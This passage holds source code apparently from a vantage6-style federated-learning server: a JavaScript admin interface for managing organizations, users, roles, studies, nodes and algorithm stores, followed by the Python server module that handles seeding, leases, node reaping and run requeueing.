        `<tr><td>${s.id}</td><td>${esc(s.name)}</td></tr>`).join('') ||
        '<tr><td class="muted">none</td></tr>'}</tbody></table>
      <form class="grid" id="sf" style="margin-top:.6rem">
        <label>new study</label><input id="s-name" placeholder="study name" required>
        <label>members</label><select id="s-orgs" multiple>${c.organization_ids.map((oid) =>
          `<option value="${oid}">${esc(orgName(oid))}</option>`).join('')}</select>
        <div class="actions"><button>Create study</button></div>
      </form>
    </div>`);
  document.querySelectorAll('[data-reg]').forEach((btn) => {
    btn.onclick = async () => {
      try {
        const out = await api('/node', {body: {
          collaboration_id: +id, organization_id: +btn.dataset.reg}});
        $('#apikey').innerHTML = `<div class="notice">node <b>${esc(out.name)}</b> registered.
          API key (shown once): <code>${esc(out.api_key)}</code></div>`;
      } catch (e) { toast(e.message, true); }
    };
  });
  $('#sf').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    try {
      await api('/study', {body: {
        name: $('#s-name').value, collaboration_id: +id,
        organization_ids: Array.from($('#s-orgs').selectedOptions, (o) => +o.value)}});
      toast('study created'); viewCollabDetail(id);
    } catch (e) { toast(e.message, true); }
  });
}

// ---------- organizations ----------
async function viewOrgs() {
  const orgs = await api('/organization');
  setView(`
    <h1>Organizations</h1>
    <div class="panel">
      <table><thead><tr><th>id</th><th>name</th><th>country</th><th>e2e key</th></tr></thead>
      <tbody>${orgs.data.map((o) => `
        <tr><td>${o.id}</td><td>${esc(o.name)}</td><td>${esc(o.country)}</td>
        <td>${o.public_key ? '✓ registered' : '<span class="muted">—</span>'}</td></tr>`).join('') ||
        '<tr><td colspan="4" class="muted">none</td></tr>'}</tbody></table>
    </div>
    <div class="panel"><h2 style="margin-top:0">New organization</h2>
      <form class="grid" id="of">
        <label>name</label><input id="o-name" required>
        <label>country</label><input id="o-country">
        <label>public key (b64 DER)</label><textarea id="o-pub" rows="3" placeholder="optional — nodes can upload it on first start"></textarea>
        <div class="actions"><button>Create</button></div>
      </form></div>`);
  $('#of').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    try {
      await api('/organization', {body: {
        name: $('#o-name').value, country: $('#o-country').value,
        public_key: $('#o-pub').value.trim() || null}});
      toast('organization created'); viewOrgs();
    } catch (e) { toast(e.message, true); }
  });
}

// ---------- users ----------
async function viewUsers() {
  const [users, roles, orgs] = await Promise.all([
    api('/user'), api('/role'), api('/organization')]);
  setView(`
    <h1>Users</h1>
    <div class="panel">
      <table><thead><tr><th>id</th><th>username</th><th>email</th>
        <th>organization</th><th>roles</th><th></th></tr></thead>
      <tbody>${users.data.map((u) => `
        <tr><td>${u.id}</td><td>${esc(u.username)}</td><td>${esc(u.email)}</td>
        <td>${u.organization_id ?? '—'}</td>
        <td id="ur-${u.id}">${(u.roles || []).map((rid) => {
          const role = roles.data.find((r) => r.id === rid);
          return esc(role ? role.name : `#${rid}`);
        }).join(', ') || '<span class="muted">—</span>'}</td>
        <td><button data-roles="${u.id}">edit roles</button></td>
        </tr>`).join('')}</tbody></table>
    </div>
    <div class="panel"><h2 style="margin-top:0">New user</h2>
      <form class="grid" id="uf">
        <label>username</label><input id="u-name" required autocomplete="off">
        <label>password</label><input id="u-pass" type="password" required autocomplete="new-password">
        <label>email</label><input id="u-email" type="email">
        <label>organization</label>
        <select id="u-org"><option value="">—</option>${orgs.data.map((o) =>
          `<option value="${o.id}">${esc(o.name)}</option>`).join('')}</select>
        <label>roles</label>
        <select id="u-roles" multiple>${roles.data.map((r) =>
          `<option>${esc(r.name)}</option>`).join('')}</select>
        <div class="actions"><button>Create</button></div>
      </form></div>`);
  $('#uf').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    try {
      await api('/user', {body: {
        username: $('#u-name').value, password: $('#u-pass').value,
        email: $('#u-email').value || null,
        organization_id: +$('#u-org').value || null,
        roles: Array.from($('#u-roles').selectedOptions, (o) => o.value)}});
      toast('user created'); viewUsers();
    } catch (e) { toast(e.message, true); }
  });
  document.querySelectorAll('[data-roles]').forEach((btn) => {
    btn.onclick = () => {
      const uid = +btn.dataset.roles;
      const u = users.data.find((x) => x.id === uid);
      const have = new Set(u.roles || []);
      // swap the cell for an inline multi-select + save
      $(`#ur-${uid}`).innerHTML = `
        <select id="ur-sel-${uid}" multiple size="4">${roles.data.map((r) =>
          `<option value="${r.id}" ${have.has(r.id) ? 'selected' : ''}>
           ${esc(r.name)}</option>`).join('')}</select>
        <button id="ur-save-${uid}">save</button>`;
      $(`#ur-save-${uid}`).onclick = async () => {
        try {
          await api(`/user/${uid}`, {method: 'PATCH', body: {
            roles: Array.from($(`#ur-sel-${uid}`).selectedOptions,
                              (o) => +o.value)}});
          toast('roles updated'); viewUsers();
        } catch (e) { toast(e.message, true); }
      };
    };
  });
}

// ---------- roles & rules ----------
async function viewRoles() {
  const [roles, rules] = await Promise.all([api('/role'), api('/rule')]);
  const byRes = {};
  for (const r of rules.data) (byRes[r.name] = byRes[r.name] || []).push(r);
  const ruleBoxes = (checked) => Object.entries(byRes).map(([res, rs]) => `
    <div class="rulegroup"><b>${esc(res)}</b><br>${rs.map((r) => `
      <label class="rule"><input type="checkbox" class="rl" value="${r.id}"
        ${checked.has(r.id) ? 'checked' : ''}>
        ${esc(r.operation)}@${esc(r.scope)}</label>`).join('')}</div>`).join('');
  setView(`
    <h1>Roles</h1>
    <div class="panel">
      <table><thead><tr><th>id</th><th>name</th><th>description</th>
        <th>rules</th><th></th></tr></thead>
      <tbody>${roles.data.map((r) => `
        <tr><td>${r.id}</td><td>${esc(r.name)}</td>
        <td>${esc(r.description)}</td><td>${r.rules.length}</td>
        <td>${/^default /.test(r.description || '') ?
          '<span class="muted">default</span>' :
          `<button data-edit="${r.id}">edit</button>
           <button class="danger" data-del="${r.id}">delete</button>`}
        </td></tr>`).join('')}</tbody></table>
    </div>
    <div class="panel"><h2 style="margin-top:0" id="rf-title">New role</h2>
      <form id="rf">
        <input type="hidden" id="r-id">
        <div class="grid">
          <label>name</label><input id="r-name" required>
          <label>description</label><input id="r-desc">
        </div>
        <div id="r-rules">${ruleBoxes(new Set())}</div>
        <div class="actions"><button>Save role</button>
          <button type="button" id="rf-reset" class="hidden">cancel edit</button></div>
      </form></div>`);
  const resetForm = () => {
    $('#r-id').value = ''; $('#r-name').value = ''; $('#r-desc').value = '';
    $('#rf-title').textContent = 'New role';
    $('#rf-reset').classList.add('hidden');
    document.querySelectorAll('.rl').forEach((c) => { c.checked = false; });
  };
  $('#rf-reset').onclick = resetForm;
  document.querySelectorAll('[data-edit]').forEach((btn) => {
    btn.onclick = () => {
      const role = roles.data.find((r) => r.id === +btn.dataset.edit);
      $('#r-id').value = role.id; $('#r-name').value = role.name;
      $('#r-desc').value = role.description || '';
      $('#rf-title').textContent = `Edit role: ${role.name}`;
      $('#rf-reset').classList.remove('hidden');
      const have = new Set(role.rules);
      document.querySelectorAll('.rl').forEach((c) => {
        c.checked = have.has(+c.value);
      });
      window.scrollTo(0, document.body.scrollHeight);
    };
  });
  document.querySelectorAll('[data-del]').forEach((btn) => {
    btn.onclick = async () => {
      if (!confirm(`delete role ${btn.dataset.del}?`)) return;
      try { await api(`/role/${btn.dataset.del}`, {method: 'DELETE'});
            toast('role deleted'); viewRoles(); }
      catch (e) { toast(e.message, true); }
    };
  });
  $('#rf').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    const body = {
      name: $('#r-name').value, description: $('#r-desc').value,
      rules: Array.from(document.querySelectorAll('.rl:checked'),
                        (c) => +c.value),
    };
    const id = $('#r-id').value;
    try {
      await api(id ? `/role/${id}` : '/role',
                {method: id ? 'PATCH' : 'POST', body});
      toast(id ? 'role updated' : 'role created'); viewRoles();
    } catch (e) { toast(e.message, true); }
  });
}

// ---------- studies ----------
async function viewStudies() {
  const [studies, collabs] = await Promise.all([
    api('/study'), api('/collaboration')]);
  setView(`
    <h1>Studies</h1>
    <div class="panel">
      <table><thead><tr><th>id</th><th>name</th><th>collaboration</th>
        <th>organizations</th><th></th></tr></thead>
      <tbody>${studies.data.map((s) => `
        <tr><td>${s.id}</td><td>${esc(s.name)}</td>
        <td>${s.collaboration_id}</td>
        <td>${(s.organization_ids || []).join(', ')}</td>
        <td><button class="danger" data-del="${s.id}">delete</button></td>
        </tr>`).join('') ||
        '<tr><td colspan="5" class="muted">none — a study scopes tasks to a subset of a collaboration</td></tr>'}
      </tbody></table>
    </div>
    <div class="panel"><h2 style="margin-top:0">New study</h2>
      <form class="grid" id="sf">
        <label>name</label><input id="s-name" required>
        <label>collaboration</label>
        <select id="s-collab" required><option value="">—</option>
          ${collabs.data.map((c) =>
            `<option value="${c.id}">${esc(c.name)}</option>`).join('')}
        </select>
        <label>organizations</label>
        <select id="s-orgs" multiple size="6" required></select>
        <div class="actions"><button>Create</button></div>
      </form></div>`);
  $('#s-collab').onchange = async () => {
    const cid = +$('#s-collab').value;
    if (!cid) { $('#s-orgs').innerHTML = ''; return; }
    const [collab, orgs] = await Promise.all([
      api(`/collaboration/${cid}`), api('/organization')]);
    const names = Object.fromEntries(orgs.data.map((o) => [o.id, o.name]));
    $('#s-orgs').innerHTML = (collab.organization_ids || []).map((oid) =>
      `<option value="${oid}">${esc(names[oid] || `org ${oid}`)}</option>`)
      .join('');
  };
  document.querySelectorAll('[data-del]').forEach((btn) => {
    btn.onclick = async () => {
      if (!confirm(`delete study ${btn.dataset.del}?`)) return;
      try { await api(`/study/${btn.dataset.del}`, {method: 'DELETE'});
            toast('study deleted'); viewStudies(); }
      catch (e) { toast(e.message, true); }
    };
  });
  $('#sf').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    try {
      await api('/study', {body: {
        name: $('#s-name').value,
        collaboration_id: +$('#s-collab').value,
        organization_ids: Array.from($('#s-orgs').selectedOptions,
                                     (o) => +o.value)}});
      toast('study created'); viewStudies();
    } catch (e) { toast(e.message, true); }
  });
}

// ---------- nodes ----------
async function viewNodes() {
  const paint = async () => {
    const nodes = await api('/node');
    $('#nl').innerHTML = nodes.data.map((n) => `
      <tr><td>${n.id}</td><td>${esc(n.name)}</td><td>${n.organization_id}</td>
      <td>${n.collaboration_id}</td><td>${chip(n.status)}</td>
      <td>${ts(n.last_seen)}</td>
      <td><button class="danger" data-del="${n.id}">delete</button></td></tr>`).join('') ||
      '<tr><td colspan="7" class="muted">no nodes — register one from a collaboration page</td></tr>';
    document.querySelectorAll('[data-del]').forEach((btn) => {
      btn.onclick = async () => {
        if (!confirm(`delete node ${btn.dataset.del}?`)) return;
        try { await api(`/node/${btn.dataset.del}`, {method: 'DELETE'}); paint(); }
        catch (e) { toast(e.message, true); }
      };
    });
  };
  setView(`
    <h1>Nodes</h1>
    <div class="panel">
      <table><thead><tr><th>id</th><th>name</th><th>org</th><th>collab</th><th>status</th><th>last seen</th><th></th></tr></thead>
      <tbody id="nl"></tbody></table>
    </div>`);
  await paint();
  every(5000, () => paint().catch(() => {}));
}

// ---------- algorithm stores ----------
async function viewStores() {
  const stores = await api('/algorithm_store');
  setView(`
    <h1>Algorithm stores</h1>
    <div id="storelist"></div>
    <div class="panel"><h2 style="margin-top:0">Link a store</h2>
      <form class="grid" id="stf">
        <label>name</label><input id="st-name" required>
        <label>url</label><input id="st-url" placeholder="http://host:port/api" required>
        <div class="actions"><button>Link</button></div>
      </form></div>
    <div class="panel"><h2 style="margin-top:0">Submit an algorithm</h2>
      <form class="grid" id="saf">
        <label>store</label>
        <select id="sa-store">${stores.data.map((st, i) =>
          `<option value="${i}">${esc(st.name)}</option>`).join('')}</select>
        <label>name</label><input id="sa-name" required>
        <label>image</label><input id="sa-image" placeholder="v6-trn://myalgo" required>
        <label>functions (JSON)</label>
        <textarea id="sa-fns" rows="4" placeholder='[{"name": "central", "arguments": [{"name": "column"}], "databases": 1}]'>[]</textarea>
        <div class="actions"><button>Submit for review</button></div>
      </form></div>`);
  $('#stf').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    try {
      await api('/algorithm_store', {body: {
        name: $('#st-name').value, url: $('#st-url').value}});
      toast('store linked'); viewStores();
    } catch (e) { toast(e.message, true); }
  });
  $('#saf').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    const st = stores.data[+$('#sa-store').value];
    if (!st) { toast('link a store first', true); return; }
    let fns;
    try { fns = JSON.parse($('#sa-fns').value || '[]'); }
    catch (e) { toast('functions is not valid JSON', true); return; }
    const body = {name: $('#sa-name').value, image: $('#sa-image').value,
                  functions: fns};
    try {
      const out = await storePost(st, '/algorithm', body,
                                  {...body, submitted_by: S.user.username});
      if (out === null) return;
      toast('algorithm submitted for review'); viewStores();
    } catch (e) { toast(e.message, true); }
  });
  // store responses are third-party JSON — every field is escaped, and
  // review buttons reference (store, algorithm) by index, never by
  // interpolating store-controlled strings into attributes
  const fetched = await Promise.all(stores.data.map(async (st) => {
    try {
      const res = await fetch(`${st.url.replace(/\/+$/, '')}/algorithm`);
      return {st, algos: (await res.json()).data || [], err: ''};
    } catch (e) {
      return {st, algos: [], err: 'store unreachable from this browser'};
    }
  }));
  const blocks = fetched.map(({st, algos, err}, si) => `<div class="panel">
    <h2 style="margin-top:0">${esc(st.name)} <span class="muted" style="font-weight:400">${esc(st.url)}</span></h2>
    ${err ? `<div class="notice">${esc(err)}</div>` : `
    <table><thead><tr><th>id</th><th>name</th><th>image</th><th>status</th><th>functions</th><th></th></tr></thead>
    <tbody>${algos.map((a, ai) => `
      <tr><td>${esc(a.id)}</td><td>${esc(a.name)}</td><td><code>${esc(a.image)}</code></td>
      <td>${chip(a.status)}</td>
      <td>${esc((a.functions || []).map((f) => f.name || f).join(', '))}</td>
      <td>${a.status !== 'approved' ? `
        <button class="secondary" data-review="${si}|${ai}|approved">approve</button>
        <button class="secondary" data-review="${si}|${ai}|rejected">reject</button>` : ''}</td></tr>`).join('') ||
      '<tr><td colspan="6" class="muted">no algorithms</td></tr>'}</tbody></table>`}
  </div>`);
  $('#storelist').innerHTML = blocks.join('') ||
    '<div class="panel muted">no stores linked</div>';
  document.querySelectorAll('[data-review]').forEach((btn) => {
    btn.onclick = async () => {
      const [si, ai, verdict] = btn.dataset.review.split('|');
      const {st, algos} = fetched[+si];
      const algo = algos[+ai];
      try {
        const out = await storePost(
          st, `/algorithm/${encodeURIComponent(algo.id)}/review`,
          {verdict},
          // admin path keeps the audit trail pointing at the human
          {verdict, reviewer: S.user.username});
        if (out === null) return;
        toast(`algorithm ${verdict}`); viewStores();
      } catch (e) { toast(e.message, true); }
    };
  });
}

// ---------- profile ----------
async function viewProfile() {
  setView(`
    <h1>Profile</h1>
    <div class="panel">
      <div class="kv"><b>username</b>${esc(S.user.username)}</div>
      <div class="kv"><b>organization</b>${S.user.organization_id ?? '—'}</div>
      <div class="kv"><b>session</b><button class="secondary" id="logout">sign out</button></div>
    </div>
    <div class="panel">
      <h2 style="margin-top:0">End-to-end decryption key</h2>
      <p class="muted">Load your organization's RSA private key (PEM) to open
      encrypted results in the browser. The key stays in this page's memory
      only — it is never uploaded or stored.</p>
      <input type="file" id="pk-file" accept=".pem,.key,.txt">
      <span id="pk-status" class="muted">${S.rsaPrivate ? 'key loaded ✓' : 'no key loaded'}</span>
    </div>
    <div class="panel">
      <h2 style="margin-top:0">Two-factor authentication</h2>
      <button class="secondary" id="mfa-setup">Start TOTP enrollment</button>
      <div id="mfa-out"></div>
    </div>`);
  $('#logout').onclick = logout;
  $('#pk-file').onchange = async (ev) => {
    const file = ev.target.files[0];
    if (!file) return;
    try {
      const pem = await file.text();
      S.rsaPrivate = await crypto.subtle.importKey(
        'pkcs8', pemToDer(pem), {name: 'RSA-OAEP', hash: 'SHA-256'},
        false, ['decrypt']);
      $('#pk-status').textContent = 'key loaded ✓';
      toast('private key loaded (memory only)');
    } catch (e) { toast('could not import key: ' + e.message, true); }
  };
  $('#mfa-setup').onclick = async () => {
    try {
      const out = await api('/user/mfa/setup', {body: {}});
      $('#mfa-out').innerHTML = `
        <div class="notice">secret: <code>${esc(out.otp_secret)}</code><br>
        provisioning URI: <code style="word-break:break-all">${esc(out.provisioning_uri)}</code></div>
        <form class="grid" id="mfa-en">
          <label>code from app</label><input id="mfa-code" inputmode="numeric" required>
          <div class="actions"><button>Enable MFA</button></div>
        </form>`;
      $('#mfa-en').addEventListener('submit', async (ev) => {
        ev.preventDefault();
        try {
          await api('/user/mfa/enable', {body: {mfa_code: $('#mfa-code').value}});
          toast('MFA enabled'); viewProfile();
        } catch (e) { toast(e.message, true); }
      });
    } catch (e) { toast(e.message, true); }
  };
}

// ---------- boot ----------
window.addEventListener('hashchange', render);
render();
