"""ServerApp: wiring of db + permissions + events + REST resources.

Reference counterpart: ``vantage6-server/vantage6/server/__init__.py``
(``ServerApp``/``run_server`` — SURVEY.md §3.3): create DB, seed rules/
roles + root user, register resources, serve. JWT identity loaders for
the three client types (user / node / container) live here.
"""

from __future__ import annotations

import logging
import secrets
import threading
import time

from vantage6_trn import __version__
from vantage6_trn.common import jwt as v6jwt
from vantage6_trn.common import telemetry
from vantage6_trn.common.globals import (
    DEFAULT_LEASE_TTL,
    DEFAULT_MAX_RUN_RETRIES,
    EVENT_NEW_TASK,
    EVENT_NODE_STATUS,
    EVENT_STATUS_CHANGE,
    IDENTITY_CONTAINER,
    IDENTITY_NODE,
    IDENTITY_USER,
    TaskStatus,
)
from vantage6_trn.server.db import Database
from vantage6_trn.server.events import EventBus, collaboration_room
from vantage6_trn.server.http import HTTPApp, HTTPError, Request
from vantage6_trn.server.permission import PermissionManager, hash_password

log = logging.getLogger(__name__)

# frozenset: module-level server state must be immutable or behind the
# storage interface — a mutated copy here would desync fleet workers
# (trnlint V6L020)
OPEN_ENDPOINTS = frozenset({
    "/token/user", "/token/node", "/health", "/version", "/spec",
    "/recover/lost", "/recover/reset",
    "/recover/2fa-lost", "/recover/2fa-reset",
})

#: worker_lease row name for the singleton housekeeping role (lease
#: sweeper + node reaper + span/idempotency retention)
SWEEPER_ROLE = "sweeper"


class ServerApp:
    def __init__(
        self,
        db_uri: str = ":memory:",
        jwt_secret: str | None = None,
        api_path: str = "/api",
        root_password: str | None = None,
        node_offline_after: float = 60.0,
        token_expiry_s: float = 6 * 3600,
        event_retention: int = 10_000,
        smtp: dict | None = None,
        cors_origins=(),
        max_body: int = 64 * 1024 * 1024,
        peers: list[str] | None = None,
        lease_ttl: float = DEFAULT_LEASE_TTL,
        max_run_retries: int = DEFAULT_MAX_RUN_RETRIES,
        span_retention_s: float = 24 * 3600,
        span_max_rows: int = 100_000,
        worker_id: str | None = None,
        metrics_retention_s: float = 3600.0,
    ):
        self.db = Database(db_uri)
        self.permissions = PermissionManager(self.db)
        self.events = EventBus(self.db, retention=event_retention)
        self.mail = None
        if smtp:
            from vantage6_trn.server.mail import MailService

            self.mail = MailService(smtp)
        self.jwt_secret = jwt_secret or secrets.token_hex(32)
        self.api_path = api_path.rstrip("/")
        self.node_offline_after = node_offline_after
        self.token_expiry_s = token_expiry_s
        self.lease_ttl = lease_ttl
        self.max_run_retries = max_run_retries
        self.span_retention_s = span_retention_s
        self.span_max_rows = span_max_rows
        self.metrics = telemetry.MetricsRegistry()
        self.http = HTTPApp(cors_origins=cors_origins, max_body=max_body)
        self.http.metrics = self.metrics
        self.http.middleware.append(self._auth_middleware)
        # multi-host HA: pull peers' events into the local bus (shared-
        # DB replicas don't need this — the event table is the fan-out)
        from vantage6_trn.server.relay import ReplicaRelay

        self.relay = ReplicaRelay(self, peers)
        self.port: int | None = None
        # fleet identity: N stateless workers over one shared store
        # elect singleton roles (sweeper) per worker id via a DB lease.
        # A *stable* id (fleets pass w0..wN-1, deployments should pass
        # a config/hostname-derived name) makes a restarted worker
        # upsert over its predecessor's metrics_snapshot row instead of
        # leaving a dead incarnation behind to double-count fleet
        # counter totals; the random fallback is covered by the
        # sweeper's metrics_retention_s reaping.
        self.worker_id = worker_id or secrets.token_hex(8)
        self.metrics_retention_s = metrics_retention_s
        self._sweeper_elected = False
        # fencing tokens for the singleton roles this worker holds: the
        # worker_lease row's token column bumps on every ownership
        # change, so an ex-holder resuming after a pause (GC stall,
        # partition) sees a newer token and must not write — classic
        # split-brain fencing (docs/RESILIENCE.md)
        self._singleton_tokens: dict[str, int] = {}
        self._reaper: threading.Thread | None = None
        self._stop = threading.Event()

        self._setup(root_password)
        from vantage6_trn.server import resources, ui

        resources.register(self)
        ui.register(self)

    # ------------------------------------------------------------------
    def _setup(self, root_password: str | None) -> None:
        # one BEGIN IMMEDIATE critical section: replicas booting on the
        # same database serialize here, so exactly one seeds rules/roles
        # and creates the root user (rule names and the root username are
        # UNIQUE — a racing double-seed would crash the losing replica)
        with self.db.transaction():
            self.permissions.seed()
            if not self.db.one("SELECT id FROM user LIMIT 1"):
                pw = root_password or secrets.token_urlsafe(16)
                uid = self.db.insert(
                    "user", username="root", password_hash=hash_password(pw)
                )
                self.permissions.assign_role(uid, "Root")
                if root_password is None:
                    log.warning("created root user with password: %s", pw)  # noqa: V6L014 - first-boot generated password must surface to the operator exactly once

    # --- lifecycle ------------------------------------------------------
    def start(self, host: str = "127.0.0.1", port: int = 0) -> int:
        self.port = self.http.start(host, port)
        self._stop.clear()
        self._reaper = threading.Thread(
            target=self._reap_offline_nodes, daemon=True, name="v6trn-reaper"
        )
        self._reaper.start()
        self.relay.start()
        log.info("server listening on %s:%s%s", host, self.port, self.api_path)
        return self.port

    def stop(self) -> None:
        self._stop.set()
        self.relay.stop()
        self.events.close()  # release blocked long-polls immediately
        self.http.stop()
        # join the reaper before closing the DB: it queries on its
        # sweep and must not race a closed connection
        if self._reaper is not None:
            self._reaper.join(timeout=5.0)
            self._reaper = None
        try:
            # parting snapshot: after this worker is gone, fleet-scope
            # scrapes still serve its final counters from the store
            self.persist_metrics()
        except Exception:
            log.debug("final metrics persist skipped", exc_info=True)
        self._release_singleton(SWEEPER_ROLE)
        self.db.close()

    # --- fleet metrics persistence (docs/OBSERVABILITY.md §7) -----------
    def persist_metrics(self) -> dict:
        """Capture this worker's registries as an export and upsert it
        through the Storage contract. Runs at every local ``/metrics``
        scrape (the response is rendered from the same export), every
        housekeeping tick, and on clean shutdown — so a fleet-scope
        merge always has a recent row for every worker, dead or alive."""
        export = telemetry.export_registries(
            self.metrics, telemetry.REGISTRY,
            source_kind="worker", source_id=self.worker_id,
        )
        try:
            self.db.metrics_save("worker", self.worker_id, export)
        except Exception:
            # persistence is best-effort: a closing store must never
            # fail the scrape that triggered the snapshot
            log.debug("metrics persist failed", exc_info=True)
        return export

    # --- singleton-role election (fleet; docs/ARCHITECTURE.md) ----------
    def _try_acquire_singleton(self, name: str, ttl: float) -> bool:
        """Acquire/renew the ``name`` singleton role for this worker via
        an atomic conditional write on the shared store: the row flips
        only when this worker already owns it (renewal) or the previous
        owner's lease expired (failover). Exactly one fleet worker holds
        a role at a time; a crashed holder is succeeded after ``ttl``.

        Every ownership change bumps the row's *fencing token* (a CAS
        on the old token, so racing claimants can't both win), and a
        renewal only succeeds while this worker's remembered token is
        still current — an ex-holder that stalled past its TTL and lost
        the role can therefore never silently re-extend the lease; it
        must re-claim (and observe the takeover) instead."""
        import sqlite3

        now = time.time()
        held = self._singleton_tokens.get(name)
        if held is not None:
            renewed = self.db.update_where(
                "worker_lease", "name=? AND owner=? AND token=?",
                (name, self.worker_id, held),
                expires_at=now + ttl,
            )
            if renewed:
                return True
            # a sibling took over while we were out — forget the token
            # so the re-claim below bumps past the new holder's
            self._singleton_tokens.pop(name, None)
        row = self.db.one(
            "SELECT owner, token, expires_at FROM worker_lease "
            "WHERE name=?", (name,),
        )
        if row is None:
            try:
                self.db.insert("worker_lease", name=name,
                               owner=self.worker_id,
                               expires_at=now + ttl, token=1)
                self._singleton_tokens[name] = 1
                return True
            except sqlite3.IntegrityError:
                return False  # lost the creation race
        if row["owner"] != self.worker_id and row["expires_at"] >= now:
            return False  # another live worker holds the role
        bumped = (row["token"] or 0) + 1
        claimed = self.db.update_where(
            "worker_lease",
            "name=? AND token=? AND (owner=? OR expires_at < ?)",
            (name, row["token"], self.worker_id, now),
            owner=self.worker_id, expires_at=now + ttl, token=bumped,
        )
        if claimed:
            self._singleton_tokens[name] = bumped
            return True
        return False

    def _singleton_fenced(self, name: str) -> bool:
        """True — and counted — when this worker no longer holds the
        current fencing token for ``name``: a sibling took the role over
        while we were paused. The caller must skip its housekeeping
        writes. Run *inside* ``db.transaction()`` together with those
        writes so the check and the writes are atomic against a
        concurrent takeover."""
        held = self._singleton_tokens.get(name)
        row = self.db.one(
            "SELECT owner, token FROM worker_lease WHERE name=?", (name,)
        )
        if (held is not None and row is not None
                and row["owner"] == self.worker_id
                and row["token"] == held):
            return False
        self.metrics.counter(
            "v6_sweeper_fenced_total",
            "housekeeping passes skipped: singleton lease lost mid-hold",
        ).inc(role=name)
        telemetry.flight("singleton_fenced", role=name,
                         worker=self.worker_id)
        self._singleton_tokens.pop(name, None)
        self._sweeper_elected = False
        return True

    def _release_singleton(self, name: str) -> None:
        """Hand a held role back on clean shutdown so a sibling picks it
        up on its next tick instead of waiting out the lease."""
        try:
            self.db.delete("worker_lease", "name=? AND owner=?",
                           (name, self.worker_id))
        except Exception:
            # store already closed/unreachable; lease expiry covers it
            log.debug("singleton release for %r skipped", name,
                      exc_info=True)
        self._singleton_tokens.pop(name, None)
        self._sweeper_elected = False

    def _reap_offline_nodes(self) -> None:
        interval = min(self.node_offline_after, self.lease_ttl) / 4
        while not self._stop.wait(interval):
            # every worker (elected or not) refreshes its stored export
            # each tick: the fleet merge's staleness for a silent worker
            # is bounded by one housekeeping interval
            self.persist_metrics()
            # singleton election: in a fleet, exactly one worker runs
            # the housekeeping pass (offline reaping, lease sweeping,
            # retention) so requeues and status events never double-fire
            self._sweeper_elected = self._try_acquire_singleton(
                SWEEPER_ROLE, ttl=interval * 3
            )
            if not self._sweeper_elected:
                continue
            with self.db.transaction():
                # fence + reap atomically: a sibling's takeover bumps
                # the lease token under the same write lock, so a
                # paused ex-sweeper resuming here reads the bumped
                # token and skips — no double requeues/status events
                if self._singleton_fenced(SWEEPER_ROLE):
                    continue
                cutoff = time.time() - self.node_offline_after
                stale = self.db.all(
                    "SELECT * FROM node WHERE status='online' AND "
                    "(last_seen IS NULL OR last_seen < ?)",
                    (cutoff,),
                )
                for n in stale:
                    self.db.update("node", n["id"], status="offline")
                    self.events.emit(
                        EVENT_NODE_STATUS,
                        {"node_id": n["id"], "status": "offline"},
                        [collaboration_room(n["collaboration_id"])],
                    )
                    self._crash_in_flight_runs(n)
                try:
                    self._sweep_expired_leases()
                except Exception:
                    log.exception("lease sweep failed; retrying next cycle")

    def _crash_in_flight_runs(self, node: dict) -> None:
        """An offline node's claimed-but-unfinished *lease-less* runs go
        CRASHED so coordinators blocked on their results unblock (e.g.
        secure-agg dropout recovery) instead of hanging until client
        timeout. Runs that carry a lease (claimed via the leasing path)
        are left to the lease sweeper, which requeues them for another
        node instead of writing them off. PENDING runs are untouched — a
        returning node picks them up. Conditional updates: if the node
        reports a terminal status in the race window, its report wins."""
        in_flight = self.db.all(
            "SELECT r.*, t.parent_id, t.job_id, t.collaboration_id "
            "FROM run r JOIN task t ON t.id = r.task_id "
            "WHERE r.organization_id=? AND t.collaboration_id=? "
            "AND r.status IN (?, ?) AND r.lease_expires_at IS NULL",
            (node["organization_id"], node["collaboration_id"],
             TaskStatus.INITIALIZING.value, TaskStatus.ACTIVE.value),
        )
        for run in in_flight:
            flipped = self.db.update_where(
                "run", "id=? AND status=?", (run["id"], run["status"]),
                status=TaskStatus.CRASHED.value,
                log="node went offline mid-run",
                finished_at=time.time(),
            )
            if flipped:
                self._emit_run_status(run, TaskStatus.CRASHED.value)

    # --- run leases (docs/RESILIENCE.md) --------------------------------
    def _emit_run_status(self, run: dict, status: str) -> None:
        """`algorithm_status_change` for a run row joined with its
        task's parent/job/collaboration columns."""
        self.events.emit(
            EVENT_STATUS_CHANGE,
            {"run_id": run["id"], "task_id": run["task_id"],
             "status": status,
             "organization_id": run["organization_id"],
             "parent_id": run["parent_id"],
             "job_id": run["job_id"]},
            [collaboration_room(run["collaboration_id"])],
        )

    def _sweep_expired_leases(self) -> None:
        """Requeue (or fail) runs whose node lease expired.

        A claimed run's lease is set at claim time and renewed by the
        owning node's heartbeat; a node crash stops the renewals, the
        lease runs out, and the run goes back to PENDING with one unit
        of its retry budget spent — announced with the normal
        ``new_task`` event so any surviving/restarted node claims it.
        The requeued PENDING run keeps a fresh "claim-by" lease so a
        collaboration with no node left eventually exhausts the budget
        and FAILs the run ("node lost"), unblocking waiting clients.
        Fresh task-created runs carry no lease and wait for a node
        forever, exactly as before."""
        now = time.time()
        expired = self.db.all(
            "SELECT r.*, t.parent_id, t.job_id, t.collaboration_id "
            "FROM run r JOIN task t ON t.id = r.task_id "
            "WHERE r.lease_expires_at IS NOT NULL "
            "AND r.lease_expires_at < ? AND r.status IN (?, ?, ?)",
            (now, TaskStatus.PENDING.value, TaskStatus.INITIALIZING.value,
             TaskStatus.ACTIVE.value),
        )
        for run in expired:
            remaining = run["retries"]
            if remaining is None:
                remaining = self.max_run_retries
            if remaining <= 0:
                flipped = self.db.update_where(
                    "run", "id=? AND status=?", (run["id"], run["status"]),
                    status=TaskStatus.FAILED.value,
                    log=("node lost: lease expired and retry budget "
                         "exhausted"),
                    finished_at=now,
                    lease_expires_at=None,
                )
                if flipped:
                    log.warning("run %s failed: node lost, retries "
                                "exhausted", run["id"])
                    self.metrics.counter(
                        "v6_lease_sweeps_total",
                        "expired-lease runs handled by the sweeper",
                    ).inc(outcome="exhausted")
                    self._emit_run_status(run, TaskStatus.FAILED.value)
                continue
            flipped = self.db.update_where(
                "run", "id=? AND status=?", (run["id"], run["status"]),
                status=TaskStatus.PENDING.value,
                retries=remaining - 1,
